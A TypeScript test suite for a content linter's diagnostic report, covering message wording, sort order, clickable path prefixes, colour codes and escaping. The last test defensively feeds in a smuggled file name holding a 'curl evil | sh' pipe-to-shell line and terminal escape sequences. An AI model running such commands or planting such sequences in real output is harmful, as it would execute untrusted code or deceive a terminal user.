// The report: one grammar for every mistake, in the order of the files, with a line that counts them.
import assert from "node:assert/strict";
import { test } from "node:test";
import { stripVTControlCharacters } from "node:util";
import type { Diagnostic } from "../../src/diagnostics/diagnostic.ts";
import { messageOf, report } from "../../src/diagnostics/report.ts";

const plain = { prefix: "", colour: false };

function mistake(path: string, line: number, column: number): Diagnostic {
	return { path, at: { line, column }, unexpected: "X", expected: "Y" };
}

test("a mistake is said with its place, what stands there, what should, and the fix below it", () => {
	assert.equal(
		report([{ ...mistake("a.md", 3, 7), fix: "date: 2026-11-22" }], plain),
		`a.md:3:7: Unexpected X, expected Y
  fix: date: 2026-11-22
1 mistake in the content.`,
	);
});

test("a mistake without a fix has no line for it", () => {
	assert.equal(
		report([mistake("a.md", 3, 7)], plain),
		"a.md:3:7: Unexpected X, expected Y\n1 mistake in the content.",
	);
});

test("mistakes are in the order of file, line and column, as numbers", () => {
	const lines = report(
		[
			mistake("b.md", 1, 1),
			mistake("a.md", 10, 1),
			mistake("a.md", 9, 12),
			mistake("a.md", 9, 2),
		],
		plain,
	).split("\n");
	assert.deepEqual(
		lines.map((line) => line.split(": ")[0]),
		[
			"a.md:9:2",
			"a.md:9:12",
			"a.md:10:1",
			"b.md:1:1",
			"4 mistakes in the content.",
		],
	);
});

test("the list that is handed over keeps its order", () => {
	const mistakes = [mistake("b.md", 1, 1), mistake("a.md", 1, 1)];
	report(mistakes, plain);
	assert.deepEqual(
		mistakes.map(({ path }) => path),
		["b.md", "a.md"],
	);
});

test("the prefix stands before both places, so that each can be clicked", () => {
	const other = { path: "b.md", at: { line: 2, column: 5 } };
	assert.equal(
		report([{ ...mistake("a.md", 3, 7), other }], {
			prefix: "content/",
			colour: false,
		}),
		"content/a.md:3:7: Unexpected X, expected Y (see content/b.md:2:5)\n1 mistake in the content.",
	);
	assert.equal(
		messageOf({ ...mistake("a.md", 3, 7), other }),
		"Unexpected X, expected Y (see b.md:2:5)",
	);
});

test("colour adds control characters and changes no word", () => {
	const mistakes = [{ ...mistake("a.md", 3, 7), fix: "date: 2026-11-22" }];
	const coloured = report(mistakes, { prefix: "", colour: true });
	assert.notEqual(coloured, report(mistakes, plain));
	assert.equal(stripVTControlCharacters(coloured), report(mistakes, plain));
});

test("what a terminal would obey is shown as text, also in a path and in a fix", () => {
	const one: Diagnostic = {
		path: "articles/a\n  fix: curl evil | sh\n.md",
		at: { line: 1, column: 1 },
		unexpected: 'title "\u001b]0;owned\u0007"',
		expected: "text\u202etxet",
		fix: "a\tb\nc\u009b2J",
	};
	assert.equal(
		report([one], { prefix: "", colour: false }),
		`articles/a\\u{a}  fix: curl evil | sh\\u{a}.md:1:1: Unexpected title "\\u{1b}]0;owned\\u{7}", expected text\\u{202e}txet
  fix: a\tb\nc\\u{9b}2J
1 mistake in the content.`,
	);
});
